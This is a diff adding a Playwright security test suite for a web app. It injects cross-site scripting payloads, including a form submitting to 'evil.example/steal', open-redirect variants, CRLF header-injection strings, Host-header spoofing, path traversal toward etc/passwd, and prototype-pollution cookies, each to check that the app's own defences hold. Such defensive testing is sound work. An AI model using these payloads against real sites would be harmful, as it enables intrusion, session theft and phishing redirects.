@@ -1,0 +1,320 @@
+import { connect } from 'node:net';
+import type { Page } from '@playwright/test';
+import { seededAccounts, seededPassword } from '../../mocks/world/accounts.ts';
+import { paths } from '../../src/paths.ts';
+import { expect, fillPasswordLogin, test } from '../support/test.ts';
+
+const blocked = [/Content Security Policy/, /violates the following/];
+
+/** Opens a page into which somebody has managed to write `html`, under the headers it really has. */
+async function openWith(page: Page, path: string, html: string): Promise<void> {
+  await page.route(
+    (url) => url.pathname === path,
+    async (route) => {
+      const response = await route.fetch();
+      await route.fulfill({ response, body: (await response.text()).replace('<main', `${html}<main`) });
+    },
+  );
+  await page.goto(path);
+}
+
+test.describe('what is written into a page', () => {
+  // An array on its own would be read as a fixture with its options.
+  test.use({ expectedErrors: [blocked, { scope: 'test' }] });
+
+  for (const path of [paths.about(), paths.login()]) {
+    test(`does not run, load or style on ${path}`, async ({ page }) => {
+      const asked: string[] = [];
+      page.on('request', (request) => asked.push(new URL(request.url()).hostname));
+      await openWith(
+        page,
+        path,
+        [
+          '<script>window.hacked="script"</script>',
+          '<script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.hacked="guessed nonce"</script>',
+          '<script src="https://evil.example/a.js"></script>',
+          '<script src="data:text/javascript,window.hacked=1"></script>',
+          '<img alt="" src="/nowhere.png" onerror="window.hacked=\'handler\'">',
+          '<style>html{outline:7px solid red!important}</style>',
+          '<p id="styled" style="outline:7px solid red">styled</p>',
+          '<link rel="stylesheet" href="https://evil.example/a.css">',
+          '<iframe title="frame" src="https://evil.example/"></iframe>',
+          '<object data="https://evil.example/"></object>',
+          '<a id="hand" href="javascript:window.hacked=\'link\'">link</a>',
+          '<form id="form" method="get" action="https://evil.example/steal"><button>send</button></form>',
+        ].join(''),
+      );
+      await page.waitForLoadState('load');
+      expect(await page.evaluate(() => getComputedStyle(document.documentElement).outlineWidth)).not.toBe(
+        '7px',
+      );
+      await page.evaluate(() => {
+        document.getElementById('hand')?.click();
+        const form = document.getElementById('form');
+        if (form instanceof HTMLFormElement) form.submit();
+        // Another way to have a text run, which a policy has to allow.
+        const timer: (handler: string) => void = setTimeout;
+        timer('window.hacked="timer"');
+      });
+      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+      expect(new URL(page.url()).pathname).toBe(path);
+      expect(asked.filter((host) => host.includes('evil'))).toEqual([]);
+    });
+  }
+
+  test('cannot move the page’s addresses elsewhere', async ({ page }) => {
+    await openWith(page, paths.about(), '<base href="https://evil.example/">');
+    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil');
+  });
+});
+
+test('no page can be framed', async ({ page, baseURL }) => {
+  test.info().annotations.push({ type: 'by', description: 'frame-ancestors' });
+  await page.route('https://frame.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login"></iframe>` }),
+  );
+  await page.goto('https://frame.example/').catch(() => {});
+  const inner = page.frames().find((frame) => frame.parentFrame() !== null);
+  expect(await inner?.getByRole('heading').count()).toBe(0);
+});
+
+/** Ways to write an address of another site. */
+const elsewhere = [
+  'https://evil.example/',
+  '//evil.example/',
+  '///evil.example/',
+  '/\\evil.example/',
+  '\\\\evil.example/',
+  '/\t/evil.example/',
+  '/%2f%2fevil.example/',
+  '/%5cevil.example/',
+  'javascript:alert(1)',
+  'data:text/html,evil',
+  '/..//evil.example/',
+  '/en//evil.example/',
+  'https:evil.example',
+];
+
+test('no redirect of the server leads to another site', { tag: '@R2.3' }, async ({ baseURL }) => {
+  const cookie = 'TOKEN=t1';
+  const addresses = [
+    ...elsewhere.flatMap((target) => [
+      `/login?redirect=${encodeURIComponent(target)}`,
+      `/en/login?redirect=${encodeURIComponent(target)}`,
+      `/transfer?action=${encodeURIComponent(target)}`,
+      `/transfer?action=login&redirect=${encodeURIComponent(target)}`,
+    ]),
+    ...[
+      '//evil.example',
+      '//evil.example/',
+      '/%2fevil.example/',
+      '/\\evil.example/',
+      '/zh//evil.example',
+      '/zh/\\evil.example',
+    ],
+    ...[
+      '/zh/%2f%2fevil.example',
+      '/zh///evil.example/',
+      '//evil.example/%2e%2e',
+      '/.//evil.example/',
+      '/%09/evil.example/',
+    ],
+  ];
+  for (const address of addresses) {
+    for (const headers of [[], [`Cookie: ${cookie}`]]) {
+      const { status, location } = await raw(baseURL, address, headers);
+      expect.soft(status, address).toBeLessThan(500);
+      if (location === undefined) continue;
+      const target = new URL(location, baseURL);
+      expect.soft(`${target.origin}`, `${address} leads to ${location}`).toBe(baseURL);
+      // A second look: a browser reads these as another host.
+      expect.soft(location, address).not.toMatch(/^[/\\]{2}|^[/\\][\t\n\r]/);
+    }
+  }
+});
+
+test('no login leads to another site', { tag: '@R2.20' }, async ({ page, t }) => {
+  test.slow();
+  for (const target of [
+    '/\\evil.example/',
+    '/%2f/evil.example/',
+    '/\t/evil.example/',
+    'https:evil.example',
+  ]) {
+    await page.context().clearCookies();
+    await page.goto(`${paths.login()}?redirect=${encodeURIComponent(target)}`);
+    await fillPasswordLogin(page, t, seededAccounts.main.account, seededPassword);
+    await expect(page).not.toHaveURL(/\/login/);
+    expect(new URL(page.url()).hostname).toBe('localhost');
+  }
+});
+
+test('no address writes a header or a cookie', async ({ baseURL }) => {
+  const line = '%0d%0aSet-Cookie:%20hacked=1%0d%0aX-Hacked:%201';
+  for (const address of [
+    `/zh/${line}`,
+    `/${line}/`,
+    `/login?redirect=/${line}`,
+    `/user/${line}`,
+    `/en/user?a=${line}`,
+  ]) {
+    const { head, status } = await raw(baseURL, address);
+    expect.soft(status, address).toBeLessThan(500);
+    expect.soft(head, address).not.toMatch(/^(?:set-cookie|x-hacked):/im);
+  }
+  const { head } = await raw(baseURL, '/about', ['X-Request-Id: a%0d%0aX-Hacked: 1 <script>']);
+  expect(head).toMatch(/^x-request-id: [\da-f-]{36}\r?$/im);
+});
+
+test('a foreign host name reaches no answer', async ({ baseURL }) => {
+  for (const host of [
+    'evil.example',
+    'evil.example:80',
+    'localhost@evil.example',
+    'evil.example/path',
+    '',
+    '"><script>',
+  ]) {
+    for (const path of ['/about', '/zh/about', paths.sitemap(), paths.rss(), '/robots.txt']) {
+      const { head, body } = await raw(baseURL, path, ['X-Forwarded-Host: evil.example'], host);
+      expect.soft(`${head}${body}`, `${host} ${path}`).not.toContain('evil.example');
+    }
+  }
+});
+
+test('path tricks in the place of the language lead nowhere', { tag: ['@R2.2', '@R2.3'] }, async ({
+  baseURL,
+}) => {
+  const tricks: [address: string, status: number, location?: string][] = [
+    ['/EN', 404],
+    ['/EN/', 301, '/EN'],
+    ['/en/', 301, '/en'],
+    ['/en/en', 404],
+    ['/en/en/', 301, '/en/en'],
+    ['/zh/zh/about', 301, '/zh/about'],
+    ['/zh/en/about', 301, '/en/about'],
+    ['/en%2fabout', 404],
+    ['/%65n/about', 200],
+    ['/..%2f..%2fetc%2fpasswd', 404],
+    ['/__proto__', 404],
+    ['/constructor/about', 404],
+    ['/en/__proto__', 404],
+  ];
+  for (const [address, status, location] of tricks) {
+    const answer = await raw(baseURL, address);
+    expect.soft([address, answer.status, answer.location]).toEqual([address, status, location]);
+  }
+  for (const address of [
+    '/%2e%2e/',
+    '/%2e%2e/%2e%2e/package.json',
+    '/assets/..%2f..%2fserver/index.js',
+    '/%c0%ae/',
+    '/%',
+    '/en/%ff',
+    '/assets/%',
+  ]) {
+    const { status, body } = await raw(baseURL, address);
+    expect.soft(status, address).toBeLessThan(500);
+    expect.soft(body, address).not.toMatch(/"dependencies"|createRequestHandler|root:x:/);
+  }
+});
+
+test('what is over-long is turned away at once', async ({ baseURL }) => {
+  const long = 'a'.repeat(10_000);
+  const begun = Date.now();
+  expect((await raw(baseURL, `/${long}`)).status).toBe(414);
+  expect((await raw(baseURL, `/about/news?keyword=${long}`)).status).toBe(414);
+  expect((await raw(baseURL, '/about', [`Cookie: a=${long}; b=${long}`])).status).toBe(431);
+  expect((await raw(baseURL, '/about', [`Cookie: USERDATA=${long}; TOKEN=1`])).status).toBe(200);
+  expect((await raw(baseURL, '/apply', ['Content-Length: 999999999'], 'localhost', 'POST')).status).toBe(413);
+  expect((await raw(baseURL, '/apply', ['Transfer-Encoding: chunked'], 'localhost', 'POST')).status).toBe(
+    413,
+  );
+  expect((await raw(baseURL, '/about', [], 'localhost', 'DELETE')).status).toBe(405);
+  expect(Date.now() - begun).toBeLessThan(5_000);
+});
+
+test('a forged cookie is text on the page, and nothing more', async ({ baseURL }) => {
+  const user = (name: string, more = '') =>
+    encodeURIComponent(
+      `{"id":"u1","name":${JSON.stringify(name)},"email":"e","mobile":"m","lastLoginTime":1,"parentId":"0"${more}}`,
+    );
+  const script = '</script><script>window.hacked=1</script>';
+  const cookies = [
+    user(script),
+    user('a', ',"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}'),
+    '{"__proto__":{}}',
+    'null',
+    '[]',
+    '%7B',
+    '%E0%A4%A',
+  ];
+  for (const cookie of cookies) {
+    for (const path of [paths.home(), paths.userInfo()]) {
+      const { status, body } = await raw(baseURL, path, [`Cookie: TOKEN=1; USERDATA=${cookie}`]);
+      expect.soft(status, cookie).toBe(200);
+      expect.soft(body, cookie).not.toContain('<script>window.hacked');
+    }
+  }
+});
+
+test('a thousand views of two customers and a visitor show each their own', { tag: '@R4.8' }, async ({
+  baseURL,
+}) => {
+  test.slow();
+  const names = ['Customer-Alpha', 'Customer-Beta'];
+  const cookieOf = (name: string) =>
+    `TOKEN=token-${name}; USERDATA=${encodeURIComponent(JSON.stringify({ id: name, name, email: 'e', mobile: 'm', lastLoginTime: 1, parentId: '0' }))}`;
+  const wrong: string[] = [];
+  const visit = async (count: number) => {
+    const name = names[count % 3];
+    const path = [paths.home(), paths.newsList(), '/en', paths.userInfo()][Math.floor(count / 3) % 4] ?? '/';
+    const response = await fetch(baseURL + path, {
+      headers: name ? { Cookie: cookieOf(name) } : {},
+      redirect: 'manual',
+    });
+    const html = await response.text();
+    const told = names.filter(
+      (other) => html.includes(other) || JSON.stringify([...response.headers]).includes(other),
+    );
+    const isRight = name ? told.length === 1 && told[0] === name : told.length === 0;
+    const isKept = response.headers.get('cache-control') !== 'no-store';
+    if (!isRight || (name && isKept) || response.status >= 500)
+      wrong.push(`${count} ${path} ${name}: ${told} ${response.status}`);
+  };
+  const lanes = Array.from({ length: 12 }, async (_, lane) => {
+    for (let count = lane; count < 1_000; count += 12) await visit(count);
+  });
+  await Promise.all(lanes);
+  expect(wrong).toEqual([]);
+});
+
+/** Sends a request exactly as it is written: clients tidy addresses and headers up. */
+function raw(
+  base: string | undefined,
+  address: string,
+  headers: readonly string[] = [],
+  host = 'localhost',
+  method = 'GET',
+): Promise<{ status: number; head: string; body: string; location: string | undefined }> {
+  const { port } = new URL(base ?? '');
+  return new Promise((resolve, reject) => {
+    const socket = connect(Number(port), 'localhost');
+    let text = '';
+    socket.setEncoding('utf8');
+    socket.on('data', (chunk) => {
+      text += chunk;
+    });
+    socket.once('error', reject);
+    socket.once('close', () => {
+      const [head = '', ...body] = text.split('\r\n\r\n');
+      const [, location] = /^location: (.*?)\r?$/im.exec(head) ?? [];
+      resolve({ status: Number(head.split(' ')[1]), head, body: body.join(''), location });
+    });
+    socket.write(
+      [`${method} ${address} HTTP/1.1`, `Host: ${host}`, 'Connection: close', ...headers, '', ''].join(
+        '\r\n',
+      ),
+    );
+  });
+}
